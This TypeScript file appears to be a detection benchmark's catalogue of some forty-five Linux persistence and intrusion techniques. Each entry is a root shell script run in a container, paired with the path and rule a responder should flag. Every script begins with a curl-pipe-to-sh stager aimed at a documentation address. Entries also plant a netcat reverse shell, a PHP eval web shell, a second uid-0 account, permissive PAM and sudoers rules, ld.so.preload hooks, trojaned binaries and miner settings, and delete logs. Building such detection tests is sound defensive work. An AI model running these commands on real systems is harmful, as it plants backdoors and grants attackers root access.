/**
 * The detection benchmark's catalogue of attacker techniques, written here: each one what
 * a Linux persistence toolkit or an intruder does, as a shell script run as root inside a
 * fresh container, and the path, rule and ATT&CK id a responder should see at high or
 * above. Payload addresses are documentation ones (203.0.113.0/24).
 */
export interface Technique {
  id: string;
  attack: string;
  /** Runs in the container (sh, as root). */
  script: string;
  /** The change that must rank high or above, and the rule that must say why. */
  path: string;
  rule: string;
}

const PAYLOAD =
  "printf '#!/bin/sh\\ncurl -fsSL http://203.0.113.7/k | sh\\n' > /var/tmp/.u; chmod 755 /var/tmp/.u";

export const TECHNIQUES: readonly Technique[] = [
  {
    id: 'cron.d entry',
    attack: 'T1053.003',
    script: "mkdir -p /etc/cron.d; echo '*/10 * * * * root /var/tmp/.u' > /etc/cron.d/sys-update",
    path: '/etc/cron.d/sys-update',
    rule: 'cron',
  },
  {
    id: 'root crontab in the spool',
    attack: 'T1053.003',
    script:
      "mkdir -p /var/spool/cron/crontabs; echo '@reboot /var/tmp/.u' > /var/spool/cron/crontabs/root",
    path: '/var/spool/cron/crontabs/root',
    rule: 'cron',
  },
  {
    id: 'busybox crontab reverse shell',
    attack: 'T1059.004',
    script:
      "mkdir -p /etc/crontabs; echo '*/5 * * * * nc 203.0.113.7 4444 -e /bin/sh' > /etc/crontabs/root",
    path: '/etc/crontabs/root',
    rule: 'reverse-shell',
  },
  {
    id: 'cron.hourly script',
    attack: 'T1053.003',
    script: `mkdir -p /etc/cron.hourly; printf '#!/bin/sh\\n/var/tmp/.u\\n' > /etc/cron.hourly/logrotate2; chmod 755 /etc/cron.hourly/logrotate2`,
    path: '/etc/cron.hourly/logrotate2',
    rule: 'cron',
  },
  {
    id: 'at job',
    attack: 'T1053.002',
    script:
      "mkdir -p /var/spool/cron/atjobs; printf '#!/bin/sh\\n/var/tmp/.u\\n' > /var/spool/cron/atjobs/a00001019a2b3c",
    path: '/var/spool/cron/atjobs/a00001019a2b3c',
    rule: 'cron',
  },
  {
    id: 'systemd service in /etc',
    attack: 'T1543.002',
    script:
      "mkdir -p /etc/systemd/system; printf '[Service]\\nExecStart=/var/tmp/.u\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/dbus-org.service",
    path: '/etc/systemd/system/dbus-org.service',
    rule: 'systemd',
  },
  {
    id: 'systemd service in /usr/local/lib',
    attack: 'T1543.002',
    script:
      "mkdir -p /usr/local/lib/systemd/system; printf '[Service]\\nExecStart=/var/tmp/.u\\n' > /usr/local/lib/systemd/system/netcheck.service",
    path: '/usr/local/lib/systemd/system/netcheck.service',
    rule: 'systemd',
  },
  {
    id: 'systemd timer',
    attack: 'T1053.006',
    script:
      "mkdir -p /etc/systemd/system; printf '[Timer]\\nOnCalendar=hourly\\n' > /etc/systemd/system/apt-clean.timer",
    path: '/etc/systemd/system/apt-clean.timer',
    rule: 'systemd',
  },
  {
    id: 'systemd generator',
    attack: 'T1543.002',
    script:
      "mkdir -p /etc/systemd/system-generators; printf '#!/bin/sh\\n/var/tmp/.u &\\n' > /etc/systemd/system-generators/zz-net; chmod 755 /etc/systemd/system-generators/zz-net",
    path: '/etc/systemd/system-generators/zz-net',
    rule: 'systemd',
  },
  {
    id: 'systemd drop-in',
    attack: 'T1543.002',
    script:
      "mkdir -p /etc/systemd/system/cron.service.d; printf '[Service]\\nExecStartPre=/var/tmp/.u\\n' > /etc/systemd/system/cron.service.d/override.conf",
    path: '/etc/systemd/system/cron.service.d/override.conf',
    rule: 'systemd',
  },
  {
    id: 'systemd user unit',
    attack: 'T1543.002',
    script:
      "mkdir -p /root/.config/systemd/user; printf '[Service]\\nExecStart=/var/tmp/.u\\n' > /root/.config/systemd/user/agent.service",
    path: '/root/.config/systemd/user/agent.service',
    rule: 'systemd',
  },
  {
    id: 'APT hook',
    attack: 'T1546.016',
    script:
      'mkdir -p /etc/apt/apt.conf.d; echo \'APT::Update::Pre-Invoke {"/var/tmp/.u &";};\' > /etc/apt/apt.conf.d/99-notify',
    path: '/etc/apt/apt.conf.d/99-notify',
    rule: 'package-hook',
  },
  {
    id: 'dpkg hook',
    attack: 'T1546.016',
    script:
      "mkdir -p /etc/dpkg/dpkg.cfg.d; echo 'post-invoke=/var/tmp/.u' > /etc/dpkg/dpkg.cfg.d/local-hook",
    path: '/etc/dpkg/dpkg.cfg.d/local-hook',
    rule: 'package-hook',
  },
  {
    id: 'maintainer script backdoored',
    attack: 'T1546.016',
    script:
      "mkdir -p /var/lib/dpkg/info; printf '#!/bin/sh\\n/var/tmp/.u\\n' >> /var/lib/dpkg/info/cron.postinst",
    path: '/var/lib/dpkg/info/cron.postinst',
    rule: 'package-hook',
  },
  {
    id: 'sudoers.d rule',
    attack: 'T1548.003',
    script:
      "mkdir -p /etc/sudoers.d; echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-www",
    path: '/etc/sudoers.d/90-www',
    rule: 'sudoers',
  },
  {
    id: 'PAM accepts any password',
    attack: 'T1556.003',
    script:
      "mkdir -p /etc/pam.d; printf 'auth sufficient pam_permit.so\\n' >> /etc/pam.d/common-auth",
    path: '/etc/pam.d/common-auth',
    rule: 'pam',
  },
  {
    id: 'PAM module dropped',
    attack: 'T1556.003',
    script:
      'mkdir -p /usr/lib/x86_64-linux-gnu/security; cp /bin/sh /usr/lib/x86_64-linux-gnu/security/pam_unix2.so',
    path: '/usr/lib/x86_64-linux-gnu/security/pam_unix2.so',
    rule: 'pam',
  },
  {
    id: 'udev rule',
    attack: 'T1546.017',
    script:
      'mkdir -p /etc/udev/rules.d; echo \'ACTION=="add", RUN+="/var/tmp/.u"\' > /etc/udev/rules.d/99-usb.rules',
    path: '/etc/udev/rules.d/99-usb.rules',
    rule: 'udev',
  },
  {
    id: 'D-Bus service activation file',
    attack: 'T1543',
    script:
      "mkdir -p /usr/share/dbus-1/system-services; printf '[D-BUS Service]\\nName=org.freedesktop.Updater\\nExec=/var/tmp/.u\\nUser=root\\n' > /usr/share/dbus-1/system-services/org.freedesktop.Updater.service",
    path: '/usr/share/dbus-1/system-services/org.freedesktop.Updater.service',
    rule: 'dbus',
  },
  {
    id: 'GRUB drop-in adding init=',
    attack: 'T1542',
    script:
      'mkdir -p /etc/default/grub.d; echo \'GRUB_CMDLINE_LINUX_DEFAULT="$GRUB_CMDLINE_LINUX_DEFAULT init=/var/tmp/.u"\' > /etc/default/grub.d/99-recovery.cfg',
    path: '/etc/default/grub.d/99-recovery.cfg',
    rule: 'boot-loader',
  },
  {
    id: 'XDG autostart',
    attack: 'T1547.013',
    script:
      "mkdir -p /etc/xdg/autostart; printf '[Desktop Entry]\\nType=Application\\nExec=/var/tmp/.u\\n' > /etc/xdg/autostart/tracker.desktop",
    path: '/etc/xdg/autostart/tracker.desktop',
    rule: 'startup',
  },
  {
    id: 'update-motd script',
    attack: 'T1037',
    script:
      "mkdir -p /etc/update-motd.d; printf '#!/bin/sh\\n/var/tmp/.u &\\n' > /etc/update-motd.d/99-x; chmod 755 /etc/update-motd.d/99-x",
    path: '/etc/update-motd.d/99-x',
    rule: 'startup',
  },
  {
    id: 'profile.d script',
    attack: 'T1546.004',
    script: "mkdir -p /etc/profile.d; echo '/var/tmp/.u &' > /etc/profile.d/lang.sh",
    path: '/etc/profile.d/lang.sh',
    rule: 'startup',
  },
  {
    id: 'root .bashrc',
    attack: 'T1546.004',
    script: 'mkdir -p /root; echo \'alias sudo="/var/tmp/.u; sudo"\' >> /root/.bashrc',
    path: '/root/.bashrc',
    rule: 'startup',
  },
  {
    id: 'rc.local',
    attack: 'T1037.004',
    script:
      "printf '#!/bin/sh\\n/var/tmp/.u &\\nexit 0\\n' > /etc/rc.local; chmod 755 /etc/rc.local",
    path: '/etc/rc.local',
    rule: 'startup',
  },
  {
    id: 'init.d script',
    attack: 'T1037.004',
    script:
      "mkdir -p /etc/init.d; printf '#!/bin/sh\\n/var/tmp/.u &\\n' > /etc/init.d/netfix; chmod 755 /etc/init.d/netfix",
    path: '/etc/init.d/netfix',
    rule: 'startup',
  },
  {
    id: 'git hook',
    attack: 'T1546',
    script:
      "mkdir -p /srv/app/.git/hooks; printf '#!/bin/sh\\n/var/tmp/.u &\\n' > /srv/app/.git/hooks/post-checkout; chmod 755 /srv/app/.git/hooks/post-checkout",
    path: '/srv/app/.git/hooks/post-checkout',
    rule: 'event-hook',
  },
  {
    id: 'git core.fsmonitor',
    attack: 'T1546',
    script: "mkdir -p /root; printf '[core]\\n\\tfsmonitor = /var/tmp/.u\\n' > /root/.gitconfig",
    path: '/root/.gitconfig',
    rule: 'git-config',
  },
  {
    id: '.htaccess handing images to PHP',
    attack: 'T1505.003',
    script:
      "mkdir -p /var/www/html/uploads; printf 'AddType application/x-httpd-php .png\\n' > /var/www/html/uploads/.htaccess",
    path: '/var/www/html/uploads/.htaccess',
    rule: 'web-server-config',
  },
  {
    id: 'PHP auto_prepend_file',
    attack: 'T1505.003',
    script:
      "mkdir -p /etc/php/8.2/apache2/conf.d; printf 'auto_prepend_file=/var/tmp/.p\\n' > /etc/php/8.2/apache2/conf.d/99-cache.ini",
    path: '/etc/php/8.2/apache2/conf.d/99-cache.ini',
    rule: 'web-server-config',
  },
  {
    id: 'ld.so.preload',
    attack: 'T1574.006',
    script:
      "cp /bin/sh /usr/lib/libnss_cache.so.2; echo '/usr/lib/libnss_cache.so.2' > /etc/ld.so.preload",
    path: '/etc/ld.so.preload',
    rule: 'ld-preload',
  },
  {
    id: 'ld.so.conf.d path',
    attack: 'T1574.006',
    script: "mkdir -p /etc/ld.so.conf.d; echo '/var/tmp' > /etc/ld.so.conf.d/00-local.conf",
    path: '/etc/ld.so.conf.d/00-local.conf',
    rule: 'ld-preload',
  },
  {
    id: 'kernel module',
    attack: 'T1547.006',
    script:
      'mkdir -p /usr/lib/modules/6.1.0-13-amd64/extra; cp /bin/sh /usr/lib/modules/6.1.0-13-amd64/extra/nf_conn.ko',
    path: '/usr/lib/modules/6.1.0-13-amd64/extra/nf_conn.ko',
    rule: 'kernel-module',
  },
  {
    id: 'modules-load.d',
    attack: 'T1547.006',
    script: "mkdir -p /etc/modules-load.d; echo 'nf_conn' > /etc/modules-load.d/nf.conf",
    path: '/etc/modules-load.d/nf.conf',
    rule: 'kernel-module',
  },
  {
    id: 'NetworkManager dispatcher',
    attack: 'T1546',
    script:
      "mkdir -p /etc/NetworkManager/dispatcher.d; printf '#!/bin/sh\\n/var/tmp/.u &\\n' > /etc/NetworkManager/dispatcher.d/99-x; chmod 755 /etc/NetworkManager/dispatcher.d/99-x",
    path: '/etc/NetworkManager/dispatcher.d/99-x',
    rule: 'event-hook',
  },
  {
    id: 'polkit rule',
    attack: 'T1548',
    script:
      "mkdir -p /etc/polkit-1/rules.d; echo 'polkit.addRule(function(a, s) { return polkit.Result.YES; });' > /etc/polkit-1/rules.d/00-all.rules",
    path: '/etc/polkit-1/rules.d/00-all.rules',
    rule: 'event-hook',
  },
  {
    id: 'file capability on an interpreter',
    attack: 'T1548',
    script: 'setcap cap_setuid+ep /usr/bin/perl',
    path: '/usr/bin/perl',
    rule: 'capability',
  },
  {
    id: 'setuid shell',
    attack: 'T1548.001',
    script: 'cp /bin/sh /var/tmp/.sh; chmod 4755 /var/tmp/.sh',
    path: '/var/tmp/.sh',
    rule: 'setuid',
  },
  {
    id: 'second uid-0 account',
    attack: 'T1136.001',
    script: "echo 'sysadm:x:0:0::/root:/bin/sh' >> /etc/passwd",
    path: '/etc/passwd',
    rule: 'account',
  },
  {
    id: 'SSH key for root',
    attack: 'T1098.004',
    script:
      "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBench attacker' > /root/.ssh/authorized_keys",
    path: '/root/.ssh/authorized_keys',
    rule: 'ssh-access',
  },
  {
    id: 'web shell in the web root',
    attack: 'T1505.003',
    script:
      'mkdir -p /var/www/html; echo \'<?php @eval($_POST["k"]); ?>\' > /var/www/html/wp-cache.php',
    path: '/var/www/html/wp-cache.php',
    rule: 'web-shell',
  },
  {
    id: 'miner configuration',
    attack: 'T1496',
    script:
      'mkdir -p /tmp/.c; echo \'{"donate-level": 1, "pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333"}]}\' > /tmp/.c/config.json',
    path: '/tmp/.c/config.json',
    rule: 'miner-config',
  },
  {
    id: 'system binary replaced',
    attack: 'T1554',
    script: 'printf \'#!/bin/sh\\n/var/tmp/.u &\\nexec /usr/bin/dir "$@"\\n\' > /usr/bin/ls',
    path: '/usr/bin/ls',
    rule: 'system-binary',
  },
  {
    id: 'package binary trojaned in place (debsums)',
    attack: 'T1554',
    // A few bytes appended to cron's ELF: the size and type stay plausible; its md5 does not.
    script: "printf '\\n/var/tmp/.u\\n' >> /usr/sbin/cron",
    path: '/usr/sbin/cron',
    rule: 'package-modified',
  },
  {
    id: 'log deleted',
    attack: 'T1070.002',
    script: 'rm -f /var/log/dpkg.log',
    path: '/var/log/dpkg.log',
    rule: 'log-tampering',
  },
].map((t) => ({ ...t, script: `${PAYLOAD}; ${t.script}` }));
